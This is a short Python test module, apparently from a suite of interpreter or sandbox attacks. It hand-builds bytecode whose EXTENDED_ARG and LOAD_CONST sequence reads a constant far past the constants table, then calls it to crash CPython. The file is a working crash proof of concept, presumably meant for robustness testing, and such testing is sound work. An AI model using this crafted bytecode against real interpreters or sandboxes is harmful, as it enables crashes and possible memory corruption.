"""Crash the interpreter with a code object made of bytes that no compiler would write."""

from __future__ import annotations

from typing import Any

from attacks.expected import Outcome
from attacks.preamble import Inputs, module

EXPECTED = Outcome(("ended",), alone="ends")


def attack(inputs: Inputs) -> bool:
    """Take constants that lie far behind the table of constants, and call them."""
    opcodes = module("opcode").opmap
    far = bytes([opcodes["EXTENDED_ARG"], 0x70, opcodes["LOAD_CONST"], 0])
    start = bytes([opcodes["RESUME"], 0])
    finish = bytes([opcodes["RETURN_VALUE"], 0])

    def body() -> Any:
        return None

    reach = bytes([opcodes["EXTENDED_ARG"], 0x7F, opcodes["EXTENDED_ARG"], 0xFF])
    body.__code__ = body.__code__.replace(co_code=start + reach + far + finish, co_stacksize=9)
    return repr(body()) == ""
